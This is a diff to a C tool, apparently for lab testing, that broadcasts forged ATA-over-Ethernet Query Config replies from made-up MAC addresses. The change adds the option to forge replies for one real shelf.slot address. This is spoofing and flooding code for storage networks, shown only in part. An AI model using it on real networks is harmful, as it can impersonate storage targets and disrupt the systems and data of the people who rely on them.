@@ -1,8 +1,9 @@
 /* lab-spoof: flood a lab's Ethernet with made-up AoE Query Config replies, as any host on
  * a SAN can: COUNT replies, each as another shelf.slot (e1000.0 on, 250 slots a shelf) from
  * another made-up MAC, broadcast, at most RATE a second (0: at full speed).  Prints
- * "sent N".
- *   lab-spoof IFACE COUNT [RATE] */
+ * "sent N".  With SHELF.SLOT every reply names that address (each from another MAC): a
+ * forged answer for a real shelf.
+ *   lab-spoof IFACE COUNT [RATE [SHELF.SLOT]] */
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
 #include <net/if.h>
@@ -22,10 +23,16 @@
 int main(int argc, char **argv)
 {
   if (argc < 3) {
-    fprintf(stderr, "usage: lab-spoof IFACE COUNT [RATE]\n");
+    fprintf(stderr, "usage: lab-spoof IFACE COUNT [RATE [SHELF.SLOT]]\n");
     return 2;
   }
   long count = atol(argv[2]), rate = argc > 3 ? atol(argv[3]) : 5000;
+  unsigned only_shelf = 0, only_slot = 0;
+  int one_address = argc > 4 && sscanf(argv[4], "%u.%u", &only_shelf, &only_slot) == 2;
+  if (argc > 4 && !one_address) {
+    fprintf(stderr, "lab-spoof: %s: expected SHELF.SLOT\n", argv[4]);
+    return 2;
+  }
   int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_AOE));
   if (fd < 0) { perror("lab-spoof: socket"); return 1; }
   struct ifreq ifr = { 0 };
@@ -47,7 +54,8 @@ int main(int argc, char **argv)
   long sent = 0;
   struct timespec gap = { 0, rate > 0 ? 1000000000L / rate : 0 };
   for (long i = 0; i < count; i++) {
-    unsigned shelf = 1000 + (unsigned)(i / 250), slot = (unsigned)(i % 250);
+    unsigned shelf = one_address ? only_shelf : 1000 + (unsigned)(i / 250);
+    unsigned slot = one_address ? only_slot : (unsigned)(i % 250);
     frame[8] = (uint8_t)(i >> 24); frame[9] = (uint8_t)(i >> 16);
     frame[10] = (uint8_t)(i >> 8); frame[11] = (uint8_t)i;
     frame[16] = (uint8_t)(shelf >> 8); frame[17] = (uint8_t)shelf;
